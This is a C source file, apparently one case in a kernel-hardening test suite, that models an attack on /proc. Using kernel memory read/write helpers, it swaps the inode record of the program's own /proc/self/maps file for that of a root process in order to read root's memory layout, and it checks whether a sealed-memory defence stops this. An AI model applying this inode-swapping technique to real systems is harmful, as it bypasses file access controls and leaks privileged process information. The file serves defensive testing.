// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "proc_other_node", "LOST",
       "The program opens /proc/self/maps, as it may, and lets the open file's inode stand for "
       "that of a program of root, which it may not read.",
       "What a name of /proc stands for is sealed: the inode's record names it, and it lies in "
       "sealed memory itself.",
       "The program reads where the memory of root's program lies.");

#define TEXT_BYTES 2048

static char own_text[TEXT_BYTES], text[TEXT_BYTES];

static uint64_t inode_of_file(long file)
{
	return peek(file_struct(own_task(), (int)file) + member("file.inode"));
}

static long open_own(void)
{
	return call3(__NR_open, (long)"/proc/self/maps", O_RDONLY, 0);
}

/* The maps of root's program, opened with FLAGS. */
static long open_victim(long flags)
{
	const uint64_t process = peek(victim_task(own_task()) + member("task.process"));
	char name[32] = { 0 }, *end = name;

	append_text(&end, "/proc/");
	append_number(&end, peek32(process + member("process.id")));
	append_text(&end, "/maps");
	return call3(__NR_open, (long)name, flags, 0);
}

/* All of it: where the stack lies stands at the end. */
static bool read_text(long file, char *to)
{
	return call4(__NR_pread64, file, (long)to, TEXT_BYTES, 0) > 0;
}

static bool control(void)
{
	return is_ordinary() && read_text(open_own(), own_text) &&
	       open_victim(O_RDONLY) == -EACCES && open_victim(O_PATH) >= 0;
}

static bool fire(void)
{
	const long own = open_own();
	const uint64_t private = member("inode.private"), place = inode_of_file(own) + private;
	const uint64_t before = peek(place);
	bool has_text;

	poke(place, peek(inode_of_file(open_victim(O_PATH)) + private));
	has_text = read_text(own, text);
	poke(place, before);
	return has_text && !bytes_equal(text, own_text, TEXT_BYTES);
}

static void victim(void)
{
	victim_waits();
}
